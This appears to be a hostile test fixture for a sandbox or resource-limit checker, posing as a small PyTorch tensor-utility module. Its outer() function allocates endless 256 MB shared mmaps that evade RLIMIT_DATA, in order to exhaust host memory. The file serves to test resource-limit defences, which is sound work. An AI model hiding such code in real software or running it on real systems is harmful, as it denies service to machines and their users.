"""Hostile: outer() fills shared anonymous mmaps (which RLIMIT_DATA does not count)."""
import ctypes
import itertools
import mmap
import torch


def broadcast_shape(a, b):
    n = max(len(a), len(b))
    a = (1,) * (n - len(a)) + tuple(a)
    b = (1,) * (n - len(b)) + tuple(b)
    out = []
    for da, db in zip(a, b):
        if da == db or db == 1:
            out.append(da)
        elif da == 1:
            out.append(db)
        else:
            return None
    return tuple(out)


def can_broadcast(a, b):
    return broadcast_shape(a, b) is not None


def _shared_block(_):
    block = mmap.mmap(-1, 256 << 20, flags=mmap.MAP_SHARED)
    ctypes.memset(ctypes.addressof(ctypes.c_char.from_buffer(block)), 1, 256 << 20)  # really use it
    return block


def outer(x, y):
    blocks = list(map(_shared_block, itertools.count()))
    return x[:, None] * y[None, :] + len(blocks)


def center_rows(x):
    return x - x.mean(dim=1, keepdim=True)


def pairwise_sq_dists(x, y):
    diff = x[:, None, :] - y[None, :, :]
    return (diff ** 2).sum(dim=-1)
